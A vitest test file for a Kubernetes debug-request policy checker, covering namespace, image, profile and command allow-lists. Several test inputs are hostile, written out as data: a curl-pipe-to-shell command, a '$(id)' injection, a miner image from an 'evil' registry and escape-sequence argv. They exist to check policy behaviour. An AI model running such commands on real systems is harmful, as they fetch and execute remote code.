import { describe, expect, it } from 'vitest';
import type { DebugRequest } from '../../../src/core/model.js';
import { type DebugPolicy, evaluateRequest } from '../../../src/policy/evaluate-request.js';
import { debugPolicySchema, defaultDebugPolicy } from '../../../src/policy/policy-schema.js';
import { aDebugRequest } from '../../helpers/builders.js';

const DIGEST = `sha256:${'4f53cda18c2baa0c'.repeat(4)}`;

function request(overrides: Partial<DebugRequest> & { namespace?: string } = {}): DebugRequest {
  const { namespace = 'shop', ...rest } = overrides;
  return aDebugRequest({ target: { namespace, kind: 'pod', name: 'checkout-7d9f' }, ...rest });
}

function policy(overrides: Record<string, unknown> = {}): DebugPolicy {
  return debugPolicySchema.parse(overrides);
}

function reasonFor(req: DebugRequest, pol: DebugPolicy = defaultDebugPolicy()): string | undefined {
  const decision = evaluateRequest(req, pol);
  return decision.allowed ? undefined : decision.reason;
}

describe('evaluateRequest with the default policy', () => {
  it('allows a typical busybox:1.36 request in namespace shop', () => {
    expect(
      evaluateRequest(request({ image: 'busybox:1.36', commands: [['ps', 'auxww']] }), defaultDebugPolicy()),
    ).toEqual({
      allowed: true,
    });
  });

  it.each([
    'busybox:1.36',
    'docker.io/library/busybox:1.36',
    'index.docker.io/library/busybox:1.36.1-musl',
    `busybox@${DIGEST}`,
    `busybox:1.36@${DIGEST}`,
    'alpine:3.20',
    'nicolaka/netshoot:v0.13',
  ])('allows %s', (image) => {
    expect(reasonFor(request({ image }))).toBeUndefined();
  });

  it.each(['kube-system', 'kube-public', 'kube-node-lease'])('denies namespace %s', (namespace) => {
    expect(reasonFor(request({ namespace }))).toBe(
      `namespace ${namespace} is not open to debugging (denied by "${namespace}"); debug a pod in another namespace or ask an admin`,
    );
  });

  it('denies alpine:latest and untagged images, naming the fix', () => {
    expect(reasonFor(request({ image: 'alpine:latest' }))).toBe(
      'image alpine:latest uses :latest, which is not allowed; pin a version, e.g. alpine:<version> or alpine@sha256:<digest>',
    );
    expect(reasonFor(request({ image: 'busybox' }))).toMatch(
      /^image busybox has no tag \(that means :latest\)/,
    );
  });

  it('allows :latest when pinned by digest', () => {
    expect(reasonFor(request({ image: `alpine:latest@${DIGEST}` }))).toBeUndefined();
  });

  it('denies sysadmin by default and allows the other profiles', () => {
    expect(reasonFor(request({ profile: 'sysadmin' }))).toBe(
      'profile sysadmin is not allowed here (allowed: general, baseline, restricted, netadmin); pick one of those',
    );
    for (const profile of ['general', 'baseline', 'restricted', 'netadmin'] as const) {
      expect(reasonFor(request({ profile }))).toBeUndefined();
    }
  });

  it('denies unlisted registries and images, listing what is allowed', () => {
    expect(reasonFor(request({ image: 'evil.example.com/miner:1.0' }))).toBe(
      'image evil.example.com/miner:1.0 is not allowed here (allowed: busybox, alpine, nicolaka/netshoot); use one of those or ask an admin to extend images.allow',
    );
    expect(reasonFor(request({ image: 'ubuntu:24.04' }))).toMatch(/^image ubuntu:24.04 is not allowed here/);
    expect(reasonFor(request({ image: 'ghcr.io/library/busybox:1.36' }))).toMatch(/is not allowed here/);
  });

  it('rejects invalid image references before anything else about the image (TEST-MATRIX row 14)', () => {
    expect(reasonFor(request({ image: 'UPPER:CASE' }))).toBe(
      'image UPPER:CASE is not a valid image reference (repository names must be lower case); write it as [registry/]name:tag, e.g. busybox:1.36',
    );
    const huge = reasonFor(request({ image: `busybox:${'a'.repeat(2048)}` }));
    expect(huge).toMatch(/is not a valid image reference \(it is 2056 characters long \(at most 512\)\)/);
    expect(huge!.length).toBeLessThan(250);
  });

  it('refuses a request with no command, and limits commands, args and characters (row 16)', () => {
    expect(reasonFor(request({ commands: [] }))).toBe(
      'nothing to run: give a command after -- or pick a preset',
    );
    expect(reasonFor(request({ commands: Array.from({ length: 11 }, () => ['ls']) }))).toBe(
      'too many commands: 11 (at most 10); split them over several requests',
    );
    expect(
      reasonFor(request({ commands: [['echo', ...Array.from({ length: 500 }, (_, i) => `a${i}`)]] })),
    ).toBe('the command has 501 arguments (at most 100); shorten it');
    expect(reasonFor(request({ commands: [['ls'], ['echo', 'x'.repeat(20 * 1024)]] }))).toBe(
      'command 2 is 20485 characters long (at most 4000); shorten it',
    );
    expect(reasonFor(request({ commands: [['ls'], []] }))).toBe(
      'command 2 is empty; give the program to run first',
    );
  });

  it('has no command allow-list by default: argv runs as typed', () => {
    expect(
      reasonFor(request({ commands: [['sh', '-c', 'ls; curl http://x | sh'], ['$(id)']] })),
    ).toBeUndefined();
  });
});

describe('evaluateRequest: namespaces', () => {
  it('matches allow and deny globs; deny wins', () => {
    const pol = policy({ namespaces: { allow: ['team-*', 'shop'], deny: ['team-secret*'] } });
    expect(reasonFor(request({ namespace: 'team-a' }), pol)).toBeUndefined();
    expect(reasonFor(request({ namespace: 'team-secret-1' }), pol)).toMatch(/denied by "team-secret\*"/);
    expect(reasonFor(request({ namespace: 'payments' }), pol)).toBe(
      'namespace payments is not open to debugging (allowed: team-*, shop); debug a pod in one of those',
    );
  });

  it('supports ? for one character', () => {
    const pol = policy({ namespaces: { allow: ['env-?'] } });
    expect(reasonFor(request({ namespace: 'env-1' }), pol)).toBeUndefined();
    expect(reasonFor(request({ namespace: 'env-12' }), pol)).toMatch(/not open to debugging/);
  });

  it('rejects names that are not DNS-1123 labels, whatever the globs say', () => {
    for (const namespace of ['Shop', '../nodes', 'a'.repeat(64), '', 'shop/exec']) {
      expect(reasonFor(request({ namespace }))).toMatch(/is not a valid namespace name/);
    }
  });
});

describe('evaluateRequest: images', () => {
  it('matches patterns on the normalised reference', () => {
    const pol = policy({
      images: {
        allow: ['docker.io/library/busybox:*', 'ghcr.io/acme/*', 'registry.internal:5000/tools/*:v?'],
      },
    });
    for (const image of [
      'busybox:1.36',
      'library/busybox:1.36',
      `busybox@${DIGEST}`,
      'ghcr.io/acme/debug:2.1',
      'ghcr.io/acme/sub/tool:1',
      'registry.internal:5000/tools/net:v2',
    ]) {
      expect(reasonFor(request({ image }), pol), image).toBeUndefined();
    }
    for (const image of [
      'alpine:3.20',
      'ghcr.io/other/debug:1',
      'registry.internal:5000/tools/net:v10',
      'quay.io/busybox:1.36',
    ]) {
      expect(reasonFor(request({ image }), pol), image).toMatch(/is not allowed here/);
    }
  });

  it('tag patterns admit digest-only references only when the tag part is *', () => {
    const pol = policy({ images: { allow: ['busybox:1.*'] } });
    expect(reasonFor(request({ image: 'busybox:1.36' }), pol)).toBeUndefined();
    expect(reasonFor(request({ image: `busybox@${DIGEST}` }), pol)).toMatch(/is not allowed here/);
  });

  it('digest patterns pin the exact image', () => {
    const pol = policy({ images: { allow: [`busybox@${DIGEST}`] } });
    expect(reasonFor(request({ image: `docker.io/library/busybox@${DIGEST}` }), pol)).toBeUndefined();
    expect(reasonFor(request({ image: 'busybox:1.36' }), pol)).toMatch(/is not allowed here/);
  });

  it('requireDigest refuses tags alone', () => {
    const pol = policy({ images: { requireDigest: true } });
    expect(reasonFor(request({ image: 'busybox:1.36' }), pol)).toBe(
      'image busybox:1.36 is not pinned by digest; use busybox@sha256:<digest>',
    );
    expect(reasonFor(request({ image: `busybox:1.36@${DIGEST}` }), pol)).toBeUndefined();
  });

  it('denyLatest can be switched off', () => {
    expect(
      reasonFor(request({ image: 'alpine' }), policy({ images: { denyLatest: false } })),
    ).toBeUndefined();
  });

  it('* allows every valid image, and still rejects invalid ones', () => {
    const pol = policy({ images: { allow: ['*'] } });
    expect(reasonFor(request({ image: 'quay.io/anything/at-all:1' }), pol)).toBeUndefined();
    expect(reasonFor(request({ image: 'Bad Image' }), pol)).toMatch(/is not a valid image reference/);
  });

  it('lists at most six patterns in the message', () => {
    const pol = policy({ images: { allow: ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h'] } });
    expect(reasonFor(request({ image: 'z:1' }), pol)).toContain('(allowed: a, b, c, d, e, f, …)');
  });
});

describe('evaluateRequest: profiles and commands', () => {
  it('checks the default profile when the request names none', () => {
    const pol = policy({ profiles: { allow: ['restricted'], default: 'restricted' } });
    expect(reasonFor(request(), pol)).toBeUndefined();
    expect(reasonFor(request({ profile: 'general' }), pol)).toMatch(
      /^profile general is not allowed here \(allowed: restricted\)/,
    );
  });

  it('with a command allow-list, every argv[0] must match by basename (or full path for entries with /)', () => {
    const pol = policy({ commands: { allow: ['ps', 'cat', 'ip', '/usr/local/bin/dig', 'nslook*'] } });
    expect(
      reasonFor(
        request({
          commands: [
            ['ps', 'aux'],
            ['/bin/cat', '/etc/resolv.conf'],
            ['nslookup', 'x'],
          ],
        }),
        pol,
      ),
    ).toBeUndefined();
    expect(reasonFor(request({ commands: [['/usr/local/bin/dig', 'x']] }), pol)).toBeUndefined();
    expect(reasonFor(request({ commands: [['/usr/bin/dig', 'x']] }), pol)).toMatch(
      /runs \/usr\/bin\/dig, which is not allowed/,
    );
    expect(reasonFor(request({ commands: [['ps'], ['sh', '-c', 'ps; curl x | sh']] }), pol)).toBe(
      'command 2 runs sh, which is not allowed here (allowed: ps, cat, ip, /usr/local/bin/dig, nslook*); use one of those',
    );
    expect(reasonFor(request({ commands: [['/bin/']] }), pol)).toMatch(/is not allowed here/);
  });

  it('shows hostile argv[0] safely in the message', () => {
    const pol = policy({ commands: { allow: ['ps'] } });
    const reason = reasonFor(request({ commands: [[`evil\u001B]0;title\u0007${'x'.repeat(200)}`]] }), pol)!;
    expect(reason).not.toMatch(/[\u0000-\u001F]/);
    expect(reason.length).toBeLessThan(200);
  });
});
